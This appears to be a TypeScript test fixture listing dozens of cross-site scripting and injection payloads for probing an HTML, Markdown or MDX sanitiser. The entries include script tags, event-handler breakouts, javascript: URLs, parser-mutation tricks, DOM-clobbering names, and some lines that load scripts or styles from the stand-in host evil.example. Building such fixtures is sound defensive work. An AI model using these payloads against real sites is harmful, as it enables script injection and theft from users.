/** A text that tries to run, to load or to break out; the mark in it shows where it arrived. */
export interface HostileText {
  name: string
  text: string
  /** Letters and digits only. Of a text that is a name alone, the text. */
  mark: string
}

type Family = Record<string, (mark: string) => string>

const elements: Family = {
  'a script': (m) => `<script>alert('${m}')</script>`,
  'a script behind a closed attribute': (m) => `"><script>alert('${m}')</script>`,
  'a script behind a closed attribute in single quotes': (m) => `'><script>alert('${m}')</script>`,
  'a script in capitals with a slash': (m) => `<SCRIPT/x>alert('${m}')</SCRIPT>`,
  'a script that is not closed': (m) => `<script>alert('${m}')//`,
  'a script of another site': (m) => `<script src=//evil.example/${m}.js></script>`,
  'a script within a script': (m) => `<scr<script>ipt>alert('${m}')</scr</script>ipt>`,
  'a picture that fails': (m) => `<img src=x onerror=alert('${m}')>`,
  'a picture in backticks': (m) => `<img src=\`x\` onerror=alert('${m}')>`,
  'a picture that is not closed': (m) => `<img src=x alt=${m} onerror="alert(1)"`,
  'a drawing that loads': (m) => `<svg onload=alert('${m}')>`,
  'a drawing with a slash': (m) => `<svg/onload=alert('${m}')//`,
  'a script in a drawing': (m) => `<svg><script>alert('${m}')</script></svg>`,
  'an animation of a link': (m) =>
    `<svg><a><animate attributeName=href values=javascript:alert('${m}') /><text y=20>${m}</text></a></svg>`,
  'a picture of a drawing': (m) => `<svg><image href=//evil.example/${m}.png /></svg>`,
  'mathematics with a link': (m) =>
    `<math><mtext href="javascript:alert('${m}')">${m}</mtext></math>`,
  'a style that mathematics hides': (m) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert('${m}')&gt;">`,
  'a frame of markup': (m) =>
    `<iframe srcdoc="&lt;script&gt;parent.alert('${m}')&lt;/script&gt;"></iframe>`,
  'a frame of JavaScript': (m) => `<iframe src="javascript:parent.alert('${m}')"></iframe>`,
  'an object': (m) => `<object data="data:text/html,<script>alert('${m}')</script>"></object>`,
  'an embedded file': (m) => `<embed src="//evil.example/${m}.swf">`,
  'a meta that leads away': (m) =>
    `<meta http-equiv="refresh" content="0;url=//evil.example/${m}">`,
  'a base address': (m) => `<base href="//evil.example/${m}/">`,
  'a form': (m) => `<form action="//evil.example/${m}"><button autofocus>${m}</button></form>`,
  'a button with an address': (m) =>
    `<form id=f1></form><button form=f1 formaction="javascript:alert('${m}')">${m}</button>`,
  'a video that fails': (m) => `<video><source onerror=alert('${m}')></video>`,
  'a sound that fails': (m) => `<audio src=x onerror=alert('${m}')>`,
  'an input that takes the focus': (m) => `<input autofocus onfocus=alert('${m}')>`,
  'a disclosure that opens': (m) => `<details open ontoggle=alert('${m}')>${m}</details>`,
  'a marquee': (m) => `<marquee onstart=alert('${m}')>${m}</marquee>`,
  'a page that is shown': (m) => `<body onpageshow=alert('${m}')>`,
  'a link to a style': (m) => `<link rel=stylesheet href=//evil.example/${m}.css>`,
  'a link that fetches before': (m) => `<link rel=prefetch href=//evil.example/${m}>`,
  'a shadow root': (m) =>
    `<div><template shadowrootmode=open><img src=x onerror=alert('${m}')></template></div>`,
}

const attributes: Family = {
  'a handler behind a quote': (m) => `" onmouseover="alert('${m}')" x="`,
  'a handler behind a single quote': (m) => `' onfocus='alert("${m}")' tabindex='1`,
  'a handler behind a space': (m) => `x onpointerover=alert('${m}') autofocus`,
  'a handler behind an entity': (m) => `&quot; onfocus=&quot;alert('${m}')&quot; x=&quot;`,
  'a handler of an animation': (m) =>
    `" style="animation:spin 1s" onanimationstart="alert('${m}')" x="`,
  'a style with an address': (m) => `" style="background:url(//evil.example/${m}.png)`,
  'an address of a style': (m) => `url(//evil.example/${m}.png)`,
  'a value of a style': (m) => `x;background:url('//evil.example/${m}');--a:`,
  'an expression of a style': (m) => `width:expression(alert('${m}'))`,
}

const mutations: Family = {
  'a closed title': (m) => `</title><script>alert('${m}')</script>`,
  'a closed style': (m) => `</style><script>alert('${m}')</script>`,
  'a closed text area': (m) => `</textarea><script>alert('${m}')</script>`,
  'a closed script': (m) => `</script><script>alert('${m}')</script>`,
  'a closed script in capitals': (m) => `</SCRIPT\t><img src=x onerror=alert('${m}')>`,
  'a comment in a script': (m) => `<!--<script>${m}`,
  'an open comment': (m) => `--><img src=x onerror=alert('${m}')><!--`,
  'a section of characters': (m) => `<![CDATA[><img src=x onerror=alert('${m}')>]]>`,
  'an element without scripts': (m) =>
    `<noscript><p title="</noscript><img src=x onerror=alert('${m}')>"></noscript>`,
  'a template with a style': (m) =>
    `<template><style></template><img src=x onerror=alert('${m}')></style>`,
  'a list that hides a style': (m) =>
    `<svg></p><style><a id="</style><img src=1 onerror=alert('${m}')>">`,
  'a table that moves': (m) => `<table><td><p></table><img src=x onerror=alert('${m}')></p>`,
  'a sheet of another site': (m) => `<style>@import '//evil.example/${m}.css';</style>`,
  'a null byte in a tag': (m) => `<scr\0ipt>alert('${m}')</scr\0ipt><img \0onerror=alert(1) src=x>`,
  'a line separator': (m) => `\u2028alert('${m}')\u2029//</script>`,
  'escapes of JSON': (m) => `\\u003c/script\\u003e\\u003cscript\\u003ealert('${m}')//`,
  'a backslash before a quote': (m) => `\\"};alert('${m}');({"a":\\"`,
  entities: (m) => `&lt;img src=x onerror=alert('${m}')&gt;&#60;script&#62;alert(1)`,
  'a template of a script': (m) => `\${alert('${m}')}{{constructor.constructor('alert(1)')()}}`,
  'letters of full width': (m) => `＜script＞alert('${m}')＜/script＞`,
}

const addresses: Family = {
  JavaScript: (m) => `javascript:alert('${m}')`,
  'JavaScript in other letters': (m) => `JaVaScRiPt:alert('${m}')`,
  'JavaScript behind a tab': (m) => `java\tscript:alert('${m}')`,
  'JavaScript behind a line end': (m) => `java\nscript:alert('${m}')`,
  'JavaScript behind a control character': (m) => `\u0001javascript:alert('${m}')`,
  'JavaScript behind a space': (m) => `  javascript:alert('${m}')`,
  'JavaScript as entities': (m) => `java&#115;cript&colon;alert('${m}')`,
  'JavaScript behind a comment': (m) => `javascript://%0aalert('${m}')`,
  VBScript: (m) => `vbscript:msgbox("${m}")`,
  'a document of data': (m) => `data:text/html,<script>alert('${m}')</script>`,
  'a drawing of data': (m) =>
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert("${m}")'/>`,
  'a blob': (m) => `blob:http://evil.example/${m}`,
  'another site without a scheme': (m) => `//evil.example/${m}`,
  'another site behind a backslash': (m) => `/\\evil.example/${m}`,
  'another site behind backslashes': (m) => `\\\\evil.example\\${m}`,
  'another site behind a tab': (m) => `/\t/evil.example/${m}`,
  'a path that closes its attribute': (m) => `/${m}"onmouseover="alert(1)" x="`,
  'a path with a script': (m) => `/${m}"><script>alert(1)</script>`,
  'a path of a module': (m) => `/../../${m}/%2e%2e/%5cevil.example`,
  'an anchor that closes its attribute': (m) => `#${m}" onfocus="alert(1)`,
  'a page that closes its attribute': (m) => `page:home"${m}><img src=x onerror=alert(1)>`,
  'a mail with a handler': (m) => `mailto:${m}@a.example"onclick="alert(1)`,
  'a telephone with a handler': (m) => `tel:${m}"onmouseover="alert(1)`,
}

const names: Family = {
  'the id of the data of the page': (m) => `<a id=tenun name=tenun href="x:${m}">${m}</a>`,
  'names of the document': (m) =>
    `<img name=body><form name=forms id=location><input name=attributes value=${m}></form>`,
  'a name alone': () => 'tenun',
  'the prototype': () => '__proto__',
  'the constructor': () => 'constructor',
}

const prose: Family = {
  'a link of Markdown': (m) => `[${m}](javascript:alert(1))`,
  'a link of Markdown with entities': (m) => `[${m}](java&Tab;script&colon;alert(1))`,
  'a picture of Markdown': (m) => `![${m}](x"onerror="alert(1))`,
  'an address in angle brackets': (m) => `<javascript:alert('${m}')>`,
  'a definition of Markdown': (m) => `[${m}]: javascript:alert(1)\n\n[${m}]`,
  'an expression of MDX': (m) => `{globalThis.alert('${m}')}`,
  'an import of MDX': (m) => `import '${m}'\nexport const a = alert(1)`,
}

/** Every hostile text, by family and name. */
export const hostileTexts: readonly HostileText[] = Object.entries({
  elements,
  attributes,
  mutations,
  addresses,
  names,
  prose,
})
  .flatMap(([family, texts]) =>
    Object.entries(texts).map(([name, text]) => ({ name: `${family}: ${name}`, text })),
  )
  .map(({ name, text }, place) => {
    const written = text(`mark${place}x`)
    return { name, text: written, mark: written.includes('mark') ? `mark${place}x` : written }
  })
